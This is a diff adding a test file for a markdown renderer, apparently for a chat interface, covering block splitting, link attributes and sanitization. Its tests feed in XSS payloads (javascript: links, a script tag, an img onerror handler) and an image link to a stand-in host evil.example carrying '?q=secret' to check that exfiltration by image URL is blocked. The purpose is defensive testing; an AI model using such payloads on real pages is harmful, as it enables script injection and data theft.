@@ -1,0 +1,84 @@
+import { expect } from '@open-wc/testing';
+import { createMarkdownRenderer } from '../../src/markdown/render-markdown.js';
+import { splitBlocks } from '../../src/markdown/split-blocks.js';
+
+const PLATFORM = 'https://api.miptech.example';
+const render = (md: string) => {
+  const div = document.createElement('div');
+  div.innerHTML = createMarkdownRenderer([PLATFORM]).render(md);
+  return div;
+};
+
+describe('splitBlocks', () => {
+  it('splits at blank lines', () => {
+    expect(splitBlocks('a\nb\n\nc\n\n\nd')).to.deep.equal(['a\nb', 'c', 'd']);
+  });
+
+  it('never splits inside a fenced code block, closed or still streaming', () => {
+    expect(splitBlocks('x\n\n```js\nconst a = 1;\n\nconst b = 2;\n```\n\ny')).to.deep.equal(['x', '```js\nconst a = 1;\n\nconst b = 2;\n```', 'y']);
+    expect(splitBlocks('x\n\n```\nopen\n\nstill open')).to.deep.equal(['x', '```\nopen\n\nstill open']);
+    expect(splitBlocks('~~~\na\n\n```\nb\n~~~\n\nz')).to.deep.equal(['~~~\na\n\n```\nb\n~~~', 'z']);
+  });
+
+  it('gives nothing for blank text', () => {
+    expect(splitBlocks('')).to.deep.equal([]);
+    expect(splitBlocks('\n\n  \n')).to.deep.equal([]);
+  });
+});
+
+describe('markdown rendering', () => {
+  it('renders CommonMark and GFM: emphasis, lists, tables, code', () => {
+    const div = render('**bold** _em_ `code`\n\n- a\n- b\n\n1. one\n2. two\n\n| Plan | Price |\n|---|---|\n| Starter | $49 |\n\n```js\nlet x = 1;\n```');
+    expect(div.querySelector('strong')!.textContent).to.equal('bold');
+    expect(div.querySelectorAll('ul li')).to.have.length(2);
+    expect(div.querySelectorAll('ol li')).to.have.length(2);
+    expect(div.querySelector('table td')!.textContent).to.equal('Starter');
+    expect(div.querySelector('pre code')!.textContent).to.equal('let x = 1;\n');
+    expect(div.querySelector('.code button.copy')!.textContent).to.equal('Copy');
+  });
+
+  it('web, mail and phone links open in a new tab without opener, referrer or rank', () => {
+    const div = render('[site](https://miptech.example/a) [mail](mailto:a@b.c) [call](tel:+15550132024)');
+    const links = [...div.querySelectorAll('a')];
+    expect(links.map((a) => a.getAttribute('href'))).to.deep.equal(['https://miptech.example/a', 'mailto:a@b.c', 'tel:+15550132024']);
+    for (const a of links) {
+      expect(a.target).to.equal('_blank');
+      expect(a.rel).to.equal('noopener noreferrer nofollow');
+    }
+  });
+
+  it('drops javascript:, data: and relative links (marked keeps them; the sanitizer does not)', () => {
+    const div = render('[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,<b>hi</b>) [w](/relative)');
+    for (const a of div.querySelectorAll('a')) expect(a.hasAttribute('href'), a.outerHTML).to.equal(false);
+  });
+
+  it('escapes raw HTML instead of passing it through', () => {
+    const div = render('<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\nhi <b onclick="x()">there</b>');
+    expect(div.querySelector('script')).to.equal(null);
+    expect(div.querySelector('img')).to.equal(null);
+    expect(div.querySelector('b')).to.equal(null);
+    expect(div.textContent).to.contain('<script>alert(1)</script>');
+    expect(div.querySelectorAll('[onerror], [onclick]')).to.have.length(0);
+  });
+
+  it('loads images from the platform only; others become links (no exfiltration by image URL)', () => {
+    const div = render(`![logo](${PLATFORM}/logo.png)\n\n![leak](https://evil.example/p.gif?q=secret)`);
+    const images = [...div.querySelectorAll('img')];
+    expect(images.map((i) => i.getAttribute('src'))).to.deep.equal([`${PLATFORM}/logo.png`]);
+    const link = div.querySelector('a.image-link')!;
+    expect(link.getAttribute('href')).to.equal('https://evil.example/p.gif?q=secret');
+    expect(link.textContent).to.contain('leak');
+  });
+
+  it('half-finished markdown renders as text, never as broken markup', () => {
+    expect(render('see [the pricing](https://mip').textContent).to.contain('[the pricing](https://mip');
+    const open = render('```js\nconst a = 1;');
+    expect(open.querySelector('pre')!.textContent).to.equal('const a = 1;\n');
+    expect(render('**bold and').textContent!.trim()).to.equal('**bold and');
+  });
+
+  it('caches: the same block renders to the identical string', () => {
+    const renderer = createMarkdownRenderer([PLATFORM]);
+    expect(renderer.render('# Hi')).to.equal(renderer.render('# Hi'));
+  });
+});
